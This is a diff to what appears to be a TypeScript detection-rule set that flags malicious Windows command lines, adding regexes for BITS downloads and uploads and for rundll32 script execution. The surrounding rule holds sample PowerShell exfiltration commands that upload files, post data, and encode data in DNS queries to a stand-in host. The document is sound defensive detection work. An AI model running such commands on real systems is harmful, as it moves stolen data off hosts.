@@ -65,7 +65,10 @@ export const WINDOWS_RULES: Rule[] = [
       { re: new RegExp(String.raw`\b(?:mshta|hh|msiexec|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|esentutl|extrac32|replace|xcopy|makecab|diantz|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|findstr|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
       { re: /\bmshta(?:\.exe)?\s+["']?(?:javascript|vbscript):/i },
       { re: /\bregsvr32(?:\.exe)?\b.*\/i:.*\bscrobj(?:\.dll)?\b/i },
-      { re: /\bStart-BitsTransfer\b.*-Source\s+["']?https?:/i },
+      // -Source named or first positional (Start-BitsTransfer, https://learn.microsoft.com/powershell/module/bitstransfer/start-bitstransfer)
+      { re: /\bStart-BitsTransfer\b.*(?:-Source\s+|\s)["']?https?:/i },
+      // rundll32 running script that pulls more script from a URL (`javascript:… GetObject("script:http://…")`, LOLBAS Rundll32)
+      { re: /\brundll32(?:\.exe)?\b.*\b(?:javascript|vbscript):.*\b(?:https?:|script:)/i },
       { re: /\bdesktopimgdownldr(?:\.exe)?\b.*\/lockscreenurl:/i },
       // a file copied or expanded from a share, or a program run from one
       { re: /\b(?:type|copy|xcopy|robocopy|expand|print|replace|esentutl|tar|printbrm|findstr|extrac32|makecab|cmd)(?:\.exe)?\b[^|;&\n]*(?:^|[\s:])\\\\[\w.-]+\\[^\s]*\.\w+/i },
@@ -370,7 +373,7 @@ export const WINDOWS_RULES: Rule[] = [
     category: 'exfiltration',
     action: 'record',
     attack: 'T1048',
-    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
+    description: 'PowerShell sending data out: WebClient UploadFile/UploadString/UploadData, a BITS upload job (Start-BitsTransfer -TransferType Upload, bitsadmin /upload), Invoke-WebRequest/Invoke-RestMethod -InFile, a file read into a variable and posted as the -Body, file bytes sent in ICMP echo requests (Net.NetworkInformation.Ping Send), DNS names built from data (Resolve-DnsName with a variable or substitution label), or a TCP client writing to a stream.',
     help: 'Moves files or collected data off the host. Check what is read and where it goes.',
     examples: {
       match: ["(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\Public\\loot.zip')", "$c = Get-Content C:\\Users\\Public\\notes.txt; Invoke-WebRequest -Uri https://x.example/u -Method POST -Body $c", "Resolve-DnsName -Type TXT \"$($chunk).x.example\""],
@@ -378,6 +381,8 @@ export const WINDOWS_RULES: Rule[] = [
     },
     idioms: [
       { re: /\.Upload(?:File|String|Data|Values)(?:Async|TaskAsync)?\s*\(/i },
+      // a BITS job that uploads (Start-BitsTransfer -TransferType Upload; bitsadmin /transfer … /upload)
+      { re: /\bStart-BitsTransfer\b[^|;&\n]*-TransferType\s+["']?Upload\b|\bbitsadmin(?:\.exe)?\b[^|;&\n]*\/upload\b/i },
       { re: /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|;&\n]*\s-InFile\s+\S/i },
       { re: /NetworkInformation\.Ping\b[\s\S]*\.Send\s*\([^)]*\$/i },
       { re: /\bResolve-DnsName\b[^|;&\n]*["']?\$(?:\(|\w+)[^\s"']*\.[\w-]+\.[\w-]+/i },
